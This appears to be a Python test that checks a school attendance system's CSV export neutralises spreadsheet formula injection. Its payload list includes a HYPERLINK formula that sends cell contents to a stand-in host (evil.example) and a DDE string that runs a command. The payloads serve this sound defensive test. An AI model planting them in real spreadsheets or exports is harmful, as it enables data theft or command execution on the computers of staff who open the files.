"""CSV exports neutralise formula cells (issue #13 item 12): a teacher's comment typed as
`=HYPERLINK(…)` reaches the vie scolaire's spreadsheet as text, not as a formula."""

from __future__ import annotations

import csv
import io
from typing import Any

from tests.attendance.conftest import Cast, session_for
from tests.attendance.test_socket import student_id, take_roll

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1;"cliquez")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1;2)", "\tsomme", "\r=1+1"]


async def test_attendance_export_has_no_formula_cells(demo_server: str, att_client: Any,
                                                      cast: Cast) -> None:
    teacher = await att_client(cast.teacher)
    opened = await take_roll(demo_server, cast, teacher)
    rid = opened["roll"]["id"]
    sids = [s["id"] for s in opened["students"]][:len(PAYLOADS)]
    assert len(sids) == len(PAYLOADS)
    marks = [{"student_id": s, "state": "late", "minutes": 5, "comment": c}
             for s, c in zip(sids, PAYLOADS, strict=True)]
    assert (await teacher.call("all_present", {"roll_id": rid}))["ok"]
    ack = await teacher.call("mark", {"roll_id": rid, "marks": marks})
    assert ack["ok"], ack
    assert (await teacher.call("validate", {"roll_id": rid}))["ok"]
    day = opened["roll"]["date"]
    async with await session_for(demo_server, cast.cpe) as s:
        async with s.get(f"{demo_server}/api/attendance/export.csv?from={day}&to={day}") as r:
            assert r.status == 200
            text = (await r.read()).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    cells = [cell for row in rows[1:] for cell in row]
    assert cells, text
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], text
    comments = {row[8] for row in rows[1:]}
    # (comments are stored stripped: the tab and the carriage return are gone already)
    assert {"'" + p.strip() for p in PAYLOADS if p.strip()[0] in "=+-@"} <= comments
    assert student_id(opened, cast.student)  # the roll was the class's
